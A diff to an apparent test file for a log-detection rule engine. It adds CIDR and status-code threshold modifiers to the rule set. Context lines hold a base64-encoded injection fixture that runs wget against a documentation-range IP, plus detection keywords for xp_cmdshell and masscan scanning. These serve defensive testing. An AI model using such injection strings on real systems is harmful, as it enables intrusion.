@@ -98,6 +98,8 @@ MODIFIERS = {
     "and-not": "sel:\n  cs-method: POST\nflt:\n  sc-status: 404\ncondition: sel and not flt",
     "one-of": "sel_a:\n  cs-referer|contains: evil\nsel_b:\n  cs-user-agent: 'masscan*'\ncondition: 1 of sel_*",
     "all-of": "sel_a:\n  cs-uri-stem: '/login'\nsel_b:\n  sc-status: 200\ncondition: all of sel_*",
+    "cidr": "sel:\n  c-ip|cidr: '198.51.100.0/24'\ncondition: sel",
+    "gte": "sel:\n  sc-status|gte: 500\ncondition: sel",
     "or-keywords": "kw:\n  - 'xp_cmdshell'\nsel:\n  cs-referer: null\n  cs-uri-query|contains: 'nul-ref'\n"
     "condition: kw or sel",
 }
@@ -121,6 +123,8 @@ B64 = base64.b64encode(b"x;wget http://198.51.100.5/a").decode()
         ),
         ("one-of", combined_line("/", ua="masscan/1.3"), combined_line("/", ua="curl-masscan")),
         ("all-of", combined_line("/login"), combined_line("/login", status=403)),
+        ("cidr", combined_line("/", client="198.51.100.7"), combined_line("/", client="203.0.113.7")),
+        ("gte", combined_line("/", status=503), combined_line("/", status=404)),
         ("or-keywords", combined_line("/q?x=EXEC%20xp_cmdshell"), combined_line("/nul-ref", referer="http://a/")),
     ],
 )
